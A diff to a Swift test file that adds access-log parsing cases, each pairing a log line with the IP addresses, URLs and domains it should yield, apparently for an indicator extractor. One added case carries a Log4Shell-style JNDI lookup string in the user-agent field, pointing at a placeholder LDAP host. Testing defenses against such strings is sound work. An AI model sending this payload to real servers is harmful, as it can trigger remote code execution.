@@ -132,7 +132,40 @@ enum LineRuleCases {
       "192.0.2.1 - - [10/Oct/2000:13:55:36 -0700] \"GET /a HTTP/1.0\" 200 1 \"http://a.example/\" \"Chrome/1.2.3.4\"",
       [
         "ipv4 remote_addr 192.0.2.1 @0", "url http_referer http://a.example/ @68",
-        "domain http_referer a.example @75",
+        "domain http_referer a.example @75", "ipv4 http_user_agent 1.2.3.4 @95",
+      ]),
+    Case(
+      "an address in a user agent of an access log",
+      "192.0.2.1 - - [10/Oct/2000:13:55:36 -0700] \"GET /a HTTP/1.0\" 200 1 \"-\" \"${jndi:ldap://198.51.100.5:1389/x}\"",
+      [
+        "ipv4 remote_addr 192.0.2.1 @0",
+        "url http_user_agent ldap://198.51.100.5:1389/x @79",
+        "ipv4 http_user_agent 198.51.100.5 @86 :1389",
+      ]),
+    Case(
+      "a browser's version in an access log",
+      "192.0.2.1 - - [10/Oct/2000:13:55:36 -0700] \"GET /a HTTP/1.0\" 200 1 \"-\" \"Mozilla/5.0 Chrome/1.2.3.4\"",
+      ["ipv4 remote_addr 192.0.2.1 @0"]),
+    Case(
+      "brackets in the user's name of an access log",
+      "a.example:80 192.0.2.1 - b[c [10/Oct/2000:13:55:36 -0700] \"GET /a HTTP/1.0\" 200 1",
+      [
+        "domain server_name a.example @0", "ipv4 remote_addr 192.0.2.1 @13",
+        "url request http://a.example/a @63",
+      ]),
+    Case(
+      "a time in the user's name of an access log",
+      "a.example:80 192.0.2.1 - b [02/Jan/1999:00:00:00 +0000] [10/Oct/2000:13:55:36 -0700] \"GET /a HTTP/1.0\" 200 1",
+      [
+        "domain server_name a.example @0", "ipv4 remote_addr 192.0.2.1 @13",
+        "url request http://a.example/a @90",
+      ]),
+    Case(
+      "many words in the user's name of an access log",
+      "a.example:80 192.0.2.1 -\(String(repeating: " b", count: 30)) [10/Oct/2000:13:55:36 -0700] \"GET /a HTTP/1.0\" 200 1",
+      [
+        "domain server_name a.example @0", "ipv4 remote_addr 192.0.2.1 @13",
+        "url request http://a.example/a @119",
       ]),
     Case(
       "an access log with a virtual host",
